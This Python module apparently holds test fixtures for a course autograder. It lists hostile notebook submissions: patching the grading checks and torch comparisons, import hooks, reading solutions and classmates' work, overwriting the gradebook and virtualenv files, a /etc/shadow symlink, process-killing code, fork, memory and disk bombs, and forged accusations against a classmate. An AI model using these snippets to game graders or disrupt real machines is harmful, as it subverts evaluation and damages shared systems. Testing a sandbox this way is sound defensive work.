"""Hostile ps01 submissions: each is the answer a student who has read this repository might send.

Every attack is a :class:`Attack`: what goes into the two solution cells of ps01_batchnorm
(``train`` and ``eval``, the instructor's answers unless replaced), code appended to the
``eval`` cell (or, for ``early`` attacks, to the ``train`` cell, before any test has run) and
code in an extra cell at the end of the notebook. Code may use the names
``COURSE`` (the course folder, which an attacker is assumed to know), ``REPO`` (this
repository) and ``PORT`` (a port the test listens on). Lines an attack prints start with
``ATTACK`` so that the tests can read what it managed.
"""

from __future__ import annotations

from dataclasses import dataclass

WRONG_TRAIN = """\
def batchnorm_forward_train(x, gamma, beta, running_mean, running_var, momentum, eps):
    return x * 0
"""

DELEGATE_DISABLED = """\
import torch.nn.functional as F


def batchnorm_forward_train(x, gamma, beta, running_mean, running_var, momentum, eps):
    with torch._C.DisableTorchFunction():
        return F.batch_norm(x, running_mean, running_var, gamma, beta, True, momentum, eps)
"""

DELEGATE_ATEN = """\
def batchnorm_forward_train(x, gamma, beta, running_mean, running_var, momentum, eps):
    out, mean, rstd = torch.ops.aten.native_batch_norm(
        x, gamma, beta, running_mean, running_var, True, momentum, eps
    )
    return out
"""

DELEGATE_VARIANT = """\
from bncourse.grading.batchnorm import batchnorm_train_variant


def batchnorm_forward_train(x, gamma, beta, running_mean, running_var, momentum, eps):
    return batchnorm_train_variant(x, gamma, beta, running_mean, running_var, momentum, eps)
"""

# The guard that refuses torch's batch norm runs in the kernel: patched there, behind a magic
# (which a plain parse of the cell cannot read), it would let the delegation through.
GUARD_PATCHED = """\
%env BNCOURSE_ATTACK=1
import contextlib
import torch.nn.functional as F
import bncourse.trusted.kernel_side as ks
ks._guards = lambda specs: (contextlib.ExitStack(), [])


def batchnorm_forward_train(x, gamma, beta, running_mean, running_var, momentum, eps):
    return F.batch_norm(x, running_mean, running_var, gamma, beta, True, momentum, eps)
"""

# A refused call reported under a name written for the instructor's class report.
FORGED_TEXT = "Misconception: honest_correct copied this notebook, report them"
FORGED_REFUSAL = f"""
%env BNCOURSE_ATTACK=1
import bncourse.trusted.kernel_side as ks
_call = ks._call
def _forged(request, tensors):
    response, encoder = _call(request, tensors)
    if request.get("guards"):
        response["violations"] = [["torch.x. {FORGED_TEXT}"]]
    return response, encoder
ks._call = _forged
"""

LYING_TENSOR = """\
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal, torch.isclose):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})


def batchnorm_forward_train(x, gamma, beta, running_mean, running_var, momentum, eps):
    return (x * 0).as_subclass(Liar)
"""


@dataclass(frozen=True)
class Attack:
    """One hostile submission and the score it should get (of 10)."""

    name: str
    expected: float
    train: str | None = None
    append: str = ""
    last_cell: str = ""
    review: str | None = None
    """A phrase the review notes must contain (a route around the guard), if any."""
    early: bool = False
    """Append to the first solution cell, so that the attack acts before every test cell."""


ATTACKS = [
    Attack(
        "patch_checks",
        2,
        train=WRONG_TRAIN,
        early=True,
        append="""
import bncourse.grading as g
for name in dir(g):
    if name.startswith("check"):
        setattr(g, name, lambda *a, **k: None)
""",
    ),
    Attack(
        "fake_module",
        0,  # reaches the grader's modules by computed name: every guarded part scores zero
        train=WRONG_TRAIN,
        early=True,
        append="""
import sys, types, bncourse
fake = types.ModuleType("bncourse.grading")
fake.__getattr__ = lambda name: (lambda *a, **k: None)
sys.modules["bncourse.grading"] = fake
bncourse.grading = fake
""",
    ),
    Attack(
        "import_hook",
        0,  # reaches the grader's modules by computed name: every guarded part scores zero
        train=WRONG_TRAIN,
        early=True,
        append="""
import builtins, types
_real_import = builtins.__import__
_fake = types.SimpleNamespace(grading=types.SimpleNamespace(
    **{n: (lambda *a, **k: None) for n in dir(__import__("bncourse.grading").grading)}))
def _hook(name, globals=None, locals=None, fromlist=(), level=0):
    if name == "bncourse" and fromlist and "grading" in fromlist:
        return _fake
    return _real_import(name, globals, locals, fromlist, level)
builtins.__import__ = _hook
""",
    ),
    Attack(
        "patched_comparisons",
        2,
        train=WRONG_TRAIN,
        early=True,
        append="""
import torch.testing
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.isclose = lambda a, b, *x, **k: torch.ones_like(a, dtype=torch.bool)
torch.testing.assert_close = lambda *a, **k: None
""",
    ),
    Attack(
        "ipython_transformer",
        2,
        train=WRONG_TRAIN,
        early=True,
        append="""
def _skip_tests(lines):
    return ["pass\\n"] if any("grading." in line for line in lines) else lines
get_ipython().input_transformers_cleanup.append(_skip_tests)
""",
    ),
    Attack(
        "exception_hooks",
        2,
        train=WRONG_TRAIN,
        early=True,
        append="""
import sys
sys.excepthook = lambda *a: None
get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)
""",
    ),
    Attack("lying_tensor", 2, train=LYING_TENSOR),
    Attack(
        "forged_answer_files",
        0,
        train=WRONG_TRAIN,
        append="""
import bncourse.trusted.kernel_side as ks, json, pathlib
def _serve(requests, responses, number):
    out = pathlib.Path(responses)
    (out / f"resp-{number}.json").write_text(json.dumps({"result": None, "names": {}}))
    (out / f"resp-{number}.safetensors").write_bytes(b"")
    try:
        (out / f"resp-{number + 1}.json").symlink_to("/etc/shadow")
    except OSError:
        pass
ks.serve = _serve
""",
    ),
    Attack("disable_torch_function", 2, train=DELEGATE_DISABLED, review="torch._C"),
    # changing the grader's code in the kernel costs every part the guard protects
    Attack("guard_patched_behind_a_magic", 0, train=GUARD_PATCHED, review="kernel side"),
    Attack("forged_refusal_text", 0, append=FORGED_REFUSAL, early=True, review="kernel side"),
    Attack("aten_ops", 2, train=DELEGATE_ATEN, review="torch.ops"),
    Attack(
        "checks_own_implementation", 2, train=DELEGATE_VARIANT, review="checks' own implementation"
    ),
    Attack(
        "read_solutions",
        10,
        append="""
import bncourse, os, pathlib, glob
places = [COURSE + "/solutions", REPO + "/solutions",
          str(pathlib.Path(bncourse.__file__).parent.parent / "solutions"),
          os.environ.get("VIRTUAL_ENV", "/nonexistent") + "/../solutions"]
for place in places:
    for path in glob.glob(place + "/*/*.ipynb"):
        print("ATTACK LEAK", path, open(path).read()[:100])
for root in ("/work", "/root", "/home", "/tmp", "/srv", "/var", "/opt", "/mnt", "/dev/shm"):
    for path in glob.glob(root + "/**/gradebook.db", recursive=True):
        print("ATTACK LEAK", path)
print("ATTACK DONE read_solutions")
""",
    ),
    Attack(
        "read_classmates",
        10,
        append="""
import glob
for path in glob.glob(COURSE + "/submitted/*/*/*.ipynb"):
    print("ATTACK LEAK", path, open(path).read()[:100])
print("ATTACK DONE read_classmates")
""",
    ),
    Attack(
        "write_gradebook",
        10,
        append="""
import sqlite3
try:
    db = sqlite3.connect(COURSE + "/gradebook.db")
    db.execute("UPDATE grade SET manual_score = 100")
    db.commit()
    print("ATTACK LEAK wrote the gradebook")
except Exception as error:
    print("ATTACK BLOCKED", type(error).__name__)
""",
    ),
    Attack(
        "write_config_and_package",
        10,
        append="""
import bncourse, pathlib
targets = [COURSE + "/nbgrader_config.py", REPO + "/nbgrader_config.py", bncourse.__file__,
           str(pathlib.Path(bncourse.__file__).parent / "grading" / "engine.py")]
for target in targets:
    try:
        with open(target, "a") as handle:
            handle.write("\\nprint('pwned')\\n")
        print("ATTACK LEAK wrote", target)
    except OSError as error:
        print("ATTACK BLOCKED", target, error.strerror)
""",
    ),
    Attack(
        "write_venv",
        10,
        append="""
import site, sys, os
for folder in site.getsitepackages() + [sys.prefix + "/bin"]:
    for name in ("zz_evil.pth", "sitecustomize.py", "usercustomize.py"):
        try:
            with open(os.path.join(folder, name), "w") as handle:
                handle.write("import os\\n")
            print("ATTACK LEAK wrote", folder, name)
        except OSError as error:
            print("ATTACK BLOCKED", folder, name, error.strerror)
""",
    ),
    Attack(
        "network",
        10,
        append="""
import socket
for host in ("127.0.0.1", "::1"):
    try:
        socket.create_connection((host, PORT), timeout=2).sendall(b"ATTACK")
        print("ATTACK LEAK reached", host)
    except OSError as error:
        print("ATTACK BLOCKED", host, type(error).__name__)
""",
    ),
    Attack(
        "daemons",
        10,
        last_cell="""
import os, subprocess, time
subprocess.Popen(["setsid", "sleep", "4242"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "4243"])
    os._exit(0)
print("ATTACK DONE daemons")
""",
    ),
    Attack(
        "kill_processes",
        10,
        last_cell="""
import os, signal
mine = os.getpid()
for entry in os.listdir("/proc"):
    if entry.isdigit() and int(entry) != mine:
        try:
            os.kill(int(entry), signal.SIGKILL)
            print("ATTACK killed", entry)
        except OSError as error:
            print("ATTACK BLOCKED", entry, error.strerror)
for pid in range(2, 40000):
    if pid != mine:
        try:
            os.kill(pid, 0)
        except OSError:
            continue
        print("ATTACK sees", pid)
os.kill(-1, signal.SIGKILL)
""",
    ),
    Attack(
        "memory_bomb",
        10,
        last_cell="""
import os
try:
    hog = bytearray(8 * 2**30)
    print("ATTACK LEAK allocated 8 GiB")
except MemoryError:
    print("ATTACK BLOCKED MemoryError")
children = []
for i in range(6):
    pid = os.fork()
    if pid == 0:
        try:
            block = bytearray(3 * 2**30)
            os._exit(0)
        except MemoryError:
            os._exit(3)
    children.append(pid)
statuses = [os.waitpid(pid, 0)[1] for pid in children]
print("ATTACK children", sum(s == 0 for s in statuses), "of", len(statuses), "held 3 GiB")
""",
    ),
    Attack(
        "fork_bomb",
        10,
        last_cell="""
import os, time
forked = 0
for i in range(5000):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(60)
        os._exit(0)
    forked += 1
print("ATTACK forked", forked)
""",
    ),
    Attack(
        "disk_bomb",
        10,
        last_cell="""
written = 0
chunk = b"x" * 2**24
for path in ("/tmp/work/big", "/tmp/big2"):
    try:
        with open(path, "wb") as handle:
            for _ in range(256):
                handle.write(chunk)
                written += len(chunk)
    except OSError as error:
        print("ATTACK BLOCKED", path, error.strerror)
print("ATTACK wrote", written)
""",
    ),
    Attack(
        "hidden_tests",
        2,
        train=WRONG_TRAIN,  # failed checks run their visible part in the kernel, for the record
        append="""
seen = []
get_ipython().events.register("pre_run_cell", lambda info: seen.append(info.raw_cell))
get_ipython().input_transformers_cleanup.append(lambda lines: (seen.append("".join(lines)), lines)[1])
""",
        last_cell="""
print("ATTACK SAW", repr(seen))
import glob
for root in ("/work", "/root", "/home", "/tmp", "/srv", "/var", "/opt", "/mnt", "/dev/shm"):
    for path in glob.glob(root + "/**/*.ipynb", recursive=True):
        if "site-packages" not in path:
            print("ATTACK notebook", path)
""",
    ),
]
"""Every attack, in the order the class lists them."""
